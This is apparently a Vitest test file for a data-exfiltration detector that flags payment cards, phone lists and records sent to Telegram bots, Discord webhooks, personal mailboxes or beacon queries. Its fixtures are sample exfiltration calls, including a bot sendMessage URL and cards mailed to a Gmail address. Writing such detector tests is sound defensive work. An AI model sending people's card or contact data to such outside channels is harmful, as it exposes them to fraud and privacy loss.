import { describe, expect, it } from "vitest";
import { callFindings, sitesOf } from "../support/sites.js";
import { runTestFiles } from "../../src/cli/test-rules.js";
import { cardFragments, outsideCards, phoneList } from "../../src/guardian/detectors/exfil-cards.js";
import { beaconFacts, identifierList } from "../../src/guardian/detectors/exfil-beacons.js";
import { cpuMs } from "../support/cpu.js";

/* Issue 24, round exf29: payment cards, contact lists and records sent to a messenger (exfil-cards.ts); a beacon's
   list of phone or member numbers (exfil-beacons.ts). docs/detection.md, "exf29". */

const TG = "https://api.telegram.org/bot5820114933:AAHq7Lm2Nx9Pk4Rz8Tw1Yb5Vc3Jd6Gf0Se2/sendMessage";
const DC = "https://discord.com/api/webhooks/1290034455667788990/Qw8Er3Ty7Ui2Op9As4Df6Gh1Jk5Lz0Xc3Vb8Nm";

describe("exf29: payment card fragments", () => {
  it("finds masked cards, brands with last fours, one card with its expiry, cards named as the content", () => {
    expect(cardFragments("Refunds: **** 3318, **** 9054")).toBe("payment cards");
    expect(cardFragments("Batch: 5*2210, 4*8812, 3*1007")).toBe("payment cards");
    expect(cardFragments("Amex x1009 and Visa x4415 pending")).toBe("payment cards");
    expect(cardFragments("Mastercard endet auf 5521, gültig bis 03/29")).toBe("a payment card with its expiry");
    expect(cardFragments("till close: card tails attached")).toBe("payment card details");
    expect(cardFragments("tarjetas terminaciones en el adjunto")).toBe("payment card details");
  });
  it("leaves one card's last four, percentages of card payments and ordinary numbers alone", () => {
    expect(cardFragments("We charged your card ending 4821 for order 55120.")).toBeNull();
    expect(cardFragments("Card payments 71% of takings today")).toBeNull();
    expect(cardFragments("Release 4.12 is live; 2 migrations ran in 38s, ticket #4412")).toBeNull();
    expect(cardFragments("Box 1234 and Box 5678")).toBeNull();
  });
});

describe("exf29: a contact list", () => {
  it("finds two distinct phone numbers or more in any script's text", () => {
    expect(phoneList("ลูกค้าใหม่: สมชาย 081-234-5678, วิภา 089-876-5432")).toBe(true);
    expect(phoneList("Ioana +40 721 334 509; Mihai +40 744 908 211")).toBe(true);
    expect(phoneList("0803 123 4567, 0805 987 6543")).toBe(true);
  });
  it("leaves one number, dates, IBAN-like groups, amounts and short ids alone", () => {
    expect(phoneList("On-call: +44 7700 900555")).toBe(false);
    expect(phoneList("from 2026-11-28 04:10 to 2026-11-29 06:10")).toBe(false);
    expect(phoneList("DE89 3704 0044 0532 0130 00")).toBe(false);
    expect(phoneList("12,480 THB and 9,110 THB")).toBe(false);
    expect(phoneList("L-339201 and L-339202")).toBe(false);
  });
});

describe("exf29: where they go", () => {
  it("reads a messenger's bot or webhook, a messenger tool's chat, a personal mailbox (cards only)", () => {
    expect(outsideCards(sitesOf({ url: TG, body: JSON.stringify({ chat_id: "-1004455667788", text: "**** 3318, **** 9054" }) }), "http_request").map((d) => d.type)).toEqual(["exfiltration.outside_cards"]);
    expect(outsideCards(sitesOf({ url: DC, body: JSON.stringify({ content: "Visa ending 4410, MC ending 9012" }) }), "http_post")).toHaveLength(1);
    expect(outsideCards(sitesOf({ chat_id: "@leadsvault", text: "A 0721 334 509, B 0744 908 211" }), "telegram_send")[0]?.detail).toBe("people's phone numbers sent to a messenger chat the call names");
    expect(outsideCards(sitesOf({ chat_id: "-1002468013579", text: "Flat 4 Okafor 1,250 GBP; Flat 9 Lindqvist 880 GBP; Flat 12 Moreau 2,040 GBP" }), "send_telegram")[0]?.detail).toBe("a list of records sent to a messenger chat the call names");
    expect(outsideCards(sitesOf({ to: "cashdesk.backup77@gmail.com", body: "Amex x1009 exp 11/27, Visa x4415 exp 02/28" }), "send_email")[0]?.detail).toBe("payment cards mailed to a personal mailbox");
  });
  it("leaves a text to one phone, a company mailbox, a Slack webhook and phone lists mailed to oneself alone", () => {
    expect(outsideCards(sitesOf({ to: "+44 7700 900321", text: "**** 3318, **** 9054" }), "send_sms")).toEqual([]);
    expect(outsideCards(sitesOf({ to: "finance@harbourclinic.example", body: "Amex x1009, Visa x4415" }), "send_email")).toEqual([]);
    expect(outsideCards(sitesOf({ url: "https://hooks.slack.com/services/T01/B02/xyz", body: "**** 3318, **** 9054" }), "http_post")).toEqual([]);
    expect(outsideCards(sitesOf({ to: "me.home@gmail.com", body: "Mum 0721 334 509, Dad 0744 908 211" }), "send_email")).toEqual([]);
  });
  it("is wired into the exfiltration detector", () => {
    expect(callFindings("telegram_send", { chat_id: "-1001239876540", text: "A 081-234-5678, B 089-876-5432" })).toContain("people's phone numbers sent to a messenger chat the call names");
    expect(callFindings("telegram_send", { chat_id: "-1001122334455", text: "Deploy done, on-call +44 7700 900555" })).toEqual([]);
  });
});

describe("exf29: a beacon's list of phone or member numbers", () => {
  it("finds three distinct phone, member or policy numbers in one value", () => {
    expect(identifierList("DD88310027,MET7712004,CIG5530981")).toBe(true);
    expect(identifierList("+447700900411,+447700900982,+447700900537")).toBe(true);
    expect(identifierList("08031234567; 08059876543; 07062221100")).toBe(true);
    expect(beaconFacts(new URL("https://img.example-pix.net/t.png?ids=PLX4402918,PLX4410077,PLX4425530"), "image")).toBe("a list of phone or member numbers in a beacon's query");
  });
  it("leaves quantities, words, hashes, two items and links alone", () => {
    expect(identifierList("120400,133020,128810,140550")).toBe(false);
    expect(identifierList("home,search,cart,user")).toBe(false);
    expect(identifierList("3f9a2c71e0,b81d44ac02,77e0d1c9aa")).toBe(false);
    expect(identifierList("DD88310027,MET7712004")).toBe(false);
    expect(beaconFacts(new URL("https://img.example-pix.net/t.png?ids=PLX4402918,PLX4410077,PLX4425530"), "link")).toBeNull();
  });
  it("stays cheap on long adversarial input", () => {
    const t = cpuMs();
    const long = "1 ".repeat(30000) + "**** ".repeat(8000) + "card ".repeat(8000) + "+0".repeat(20000);
    cardFragments(long);
    phoneList(long);
    identifierList("A1234567,".repeat(5000));
    outsideCards(sitesOf({ url: TG, body: long }), "telegram_send");
    expect(cpuMs() - t).toBeLessThan(1500);
  });
});

describe("exf29: corpus", () => {
  it("holds every case of exf29.test.yaml", () => {
    const s = runTestFiles("test/fixtures/corpus/exf29.test.yaml");
    const failures = s.files.flatMap((f) => f.results.filter((r) => !r.ok).map((r) => `${r.name}: ${r.failures.join("; ")}`));
    expect(failures).toEqual([]);
    expect(s.passed).toBeGreaterThanOrEqual(16);
  });
});
